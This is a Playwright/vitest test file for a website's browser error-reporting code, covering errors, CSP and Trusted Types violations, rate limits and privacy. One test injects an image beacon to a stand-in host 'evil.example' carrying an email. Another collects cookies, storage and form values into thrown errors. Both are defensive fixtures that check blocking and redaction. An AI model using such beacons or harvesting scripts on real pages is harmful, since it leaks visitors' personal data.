import type { BrowserContextOptions, Page } from 'playwright';
import { readFileSync } from 'node:fs';
import { afterAll, afterEach, beforeEach, describe, expect, inject } from 'vitest';
import spec from '#spec';
import type { Envelope, Report } from '../../site/shared/reports/report.ts';
import { linesOf } from '../../site/server/reports.ts';
import { startReceiver, type Receiver } from '../backend/support/receiver.ts';
import { openAnew, type Reopen, settled, test, wasStopped } from '../support/browser.ts';
import { bundle } from '../support/bundle.ts';

const perPageView = 6;
const build = '0123456789ab';
const receiver: Receiver<Envelope> = await startReceiver<Envelope>();
const early = readFileSync(new URL('../../site/browser/early-reports.js', import.meta.url), 'utf8');
const reporting = await bundle('reports.ts', 'reporting', {
  reports: { url: receiver.url, perPageView, perMinute: 60 },
});

afterAll(() => receiver.close());
beforeEach(() => void (receiver.received as unknown[]).splice(0));
// The server accepts the same reports, if the spec names a path on the site.
afterEach(() => {
  for (const { body } of receiver.received) expect(linesOf(JSON.stringify(body))).toHaveLength(1);
});

function allReports(): readonly Report[] {
  return receiver.received.flatMap(({ body }) => body.reports);
}

/** Waits for exactly these reports, in any order. */
async function arrives(...reports: object[]): Promise<void> {
  await expect.poll(() => allReports().length).toBe(reports.length);
  for (const report of reports) expect(allReports()).toContainEqual(expect.objectContaining(report));
}

interface Changes extends BrowserContextOptions {
  /** A same-origin script at the end of the head. */
  readonly script?: string;
  /** Changes the HTML of the page. */
  readonly change?: (html: string) => string;
  readonly before?: (page: Page) => Promise<unknown>;
}

/** Opens a page that reports its errors, with an error injected. */
function open(reopen: Reopen, path: string, { script, change, before, ...options }: Changes = {}): Promise<Page> {
  // Chromium treats a modified page as one of the public network, which needs a permission to access this machine.
  return reopen(path, { permissions: ['local-network-access'], ...options }, async (page) => {
    await addReports(page, path, script, change);
    await before?.(page);
  });
}

/** Adds the scripts of a site with reports to a page, as the build does, and lets its policy allow them. */
async function addReports(page: Page, path: string, script = '', change?: Changes['change']): Promise<void> {
  const scripts = {
    early,
    broken: script,
    reporting: `${reporting};addEventListener('load', () => setTimeout(reporting.startReports));`,
  };
  for (const [name, body] of Object.entries(scripts))
    await page.route(`**/assets/${name}-1a2b.js`, (route) => route.fulfill({ contentType: 'text/javascript', body }));
  await page.route(
    ({ origin, pathname }) => origin === inject('baseUrl') && pathname === path.split(/[?#]/)[0],
    async (route) => {
      const response = await route.fetch();
      const headers = response.headers();
      const policy = headers['content-security-policy']?.replace(
        "connect-src 'self'",
        `$& ${new URL(receiver.url).origin}`,
      );
      const [start = '', ...rest] = (await response.text()).split('<head>');
      const html = `${start}<head><script src="/assets/early-1a2b.js" data-build="${build}"></script>${rest.join('<head>')}`;
      const body = html.replace(
        '</head>',
        '<script src="/assets/broken-1a2b.js"></script><script src="/assets/reporting-1a2b.js"></script></head>',
      );
      await route.fulfill({
        response,
        headers: { ...headers, ...(policy && { 'content-security-policy': policy }) },
        body: change?.(body) ?? body,
      });
    },
  );
}

const frame = expect.stringMatching(/^\/assets\/broken-1a2b\.js:1:\d+$/);

describe('a browser reports', () => {
  test('an error from before the reporting code was loaded', async ({ reopen }) => {
    await open(reopen, '/inicio', { script: 'null.x' });
    await expect
      .poll(() => receiver.received.map(({ body }) => body))
      .toEqual([
        {
          from: 'browser',
          build,
          page: 'home',
          locale: 'es',
          browser: expect.stringMatching(/^chrome\/\d+$/),
          reports: [{ kind: 'error', name: 'TypeError', code: 'nothing-there', frames: [frame] }],
        },
      ]);
  });

  test('an error and a rejection that come later', async ({ reopen }) => {
    const script =
      "addEventListener('click', () => { setTimeout(() => nothing()); Promise.reject(new RangeError('x')); })";
    const page = await open(reopen, '/en/contacto', { script, locale: 'en-US' });
    await settled(page);
    await page.locator('h1').click();
    await arrives(
      { kind: 'error', name: 'ReferenceError', code: 'unknown-name' },
      { kind: 'rejection', name: 'RangeError', code: 'other', frames: [frame] },
    );
    expect(receiver.received[0]?.body).toMatchObject({ page: 'contact', locale: 'en' });
  });

  test('a part of the site that cannot be loaded', async ({ reopen }) => {
    const page = await open(reopen, '/inicio');
    await settled(page);
    await page.route('**/assets/chunks/**', (route) => route.abort());
    await page.locator('form#contact-home [name=name]').focus();
    await arrives({ kind: 'load', file: expect.stringMatching(/^\/assets\/chunks\/chunk-.+\.js$/) });
  });

  test('violations of the content security policy, with the origin at most', async ({ reopen, stopped }) => {
    const foreign = '<script>1</script><img src="https://evil.example/ana.png?email=ana">';
    await open(reopen, '/inicio', { change: (html) => html.replace('</body>', `${foreign}</body>`) });
    await arrives(
      { kind: 'policy', directive: 'script-src-elem', blocked: 'inline' },
      { kind: 'policy', directive: 'img-src', blocked: 'https://evil.example' },
    );
    await wasStopped(stopped, 2);
  });

  test('violations of Trusted Types', async ({ reopen, stopped }) => {
    await open(reopen, '/inicio', { script: "document.createElement('p').innerHTML = '<b>ana</b>'" });
    await arrives(
      { kind: 'policy', directive: 'require-trusted-types-for', blocked: 'trusted-types-sink', frames: [frame] },
      { kind: 'error', name: 'TypeError', code: 'trusted-types', frames: [frame] },
    );
    await wasStopped(stopped, 1);
  });

  test('the same error once, and a limited number of different ones', async ({ reopen }) => {
    const script = `for (let i = 0; i < 20; i += 1) setTimeout(() => { throw new Error(); });
const fail = (i) => { throw new Error(); };
${Array.from({ length: 20 }, (_, index) => `setTimeout(() => fail(${index}));`).join('\n')}
setTimeout(() => { window.done = true; }, 50);`;
    const page = await open(reopen, '/inicio', { script });
    await page.waitForFunction('window.done');
    await expect.poll(() => receiver.received.length).toBe(perPageView);
    await settled(page);
    expect(new Set(allReports().map((report) => JSON.stringify(report))).size).toBe(perPageView);
    expect(receiver.received).toHaveLength(perPageView);
  });
});

test('with a privacy signal, a browser reports nothing to another site', async ({ openPage }) => {
  const page = await openPage('about:blank', { permissions: ['local-network-access'] });
  await page.addInitScript(() => Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }));
  await addReports(page, '/inicio', 'null.x');
  await page.goto('/inicio');
  await settled(page);
  expect(receiver.received).toEqual([]);
});

test('a report has no personal data from address, form, storage, cookies or message', async ({ reopen }) => {
  const marks = ['marca.correo@persona.example', '5587654321', 'MarcaNombre'] as const;
  const [email, phone, name] = marks;
  // The thrown error contains everything that a script can access.
  const script = `const all = () => [location.href, document.cookie, document.referrer, JSON.stringify(localStorage), JSON.stringify(sessionStorage),
  ...[...document.querySelectorAll('input, textarea')].map((field) => field.value)].join('\\n    at x (' + location.origin + '/assets/${name}.js:1:1)\\n');
class MarcaNombre extends Error { name = ${JSON.stringify(name)} }
addEventListener('blur', () => {
  setTimeout(() => { throw new Error(all()); });
  setTimeout(() => { throw new MarcaNombre(all()); });
  setTimeout(() => { throw all(); });
  Promise.reject({ all: all() });
  JSON.parse(all());
}, true);`;
  const page = await open(reopen, `/contacto?nombre=${name}&email=${email}#${phone}`, {
    script,
    before: async (page) => {
      await page.context().addCookies([{ name: 'visitor', value: name, domain: '127.0.0.1', path: '/' }]);
      await openAnew(page, '/robots.txt');
      await page.evaluate((all) => all.forEach((mark) => localStorage.setItem(mark, mark)), [...marks]);
    },
  });
  await settled(page);
  await page.locator('#contact-page [name=name]').fill(name);
  await page.locator('#contact-page [name=email]').fill(email);
  await page.locator('#contact-page [name=phone]').fill(phone);
  await page.locator('#contact-page [name=message]').focus();
  const kinds = ['error SyntaxError', 'error Error', 'error Error', 'error none', 'rejection none'];
  await expect
    .poll(() => allReports().map((report) => `${report.kind} ${'name' in report ? report.name : ''}`))
    .toEqual(expect.arrayContaining(kinds));
  for (const mark of marks) expect(JSON.stringify(receiver.received)).not.toContain(mark);
  const { headers } = receiver.received[0] ?? {};
  expect(headers).toHaveProperty('content-type', 'text/plain;charset=UTF-8');
  for (const header of ['cookie', 'referer', 'authorization']) expect(headers).not.toHaveProperty(header);
});

test('without reports in the spec, errors are sent nowhere and pages have no code for it', async ({ reopen }) => {
  expect(spec.integrations).not.toHaveProperty('reports');
  const requests: string[] = [];
  const page = await reopen('/no-hay-tal', {}, async (tab) =>
    tab.on('request', (request) => void requests.push(request.url())),
  );
  await page.evaluate(() => setTimeout(() => Promise.reject(new Error('x'))));
  await settled(page);
  expect(requests.filter((url) => new URL(url).origin !== new URL(page.url()).origin)).toEqual([]);
  expect(await page.locator('script[data-build]').count()).toBe(0);
  expect(await page.evaluate(() => 'earlyReports' in window)).toBe(false);
});
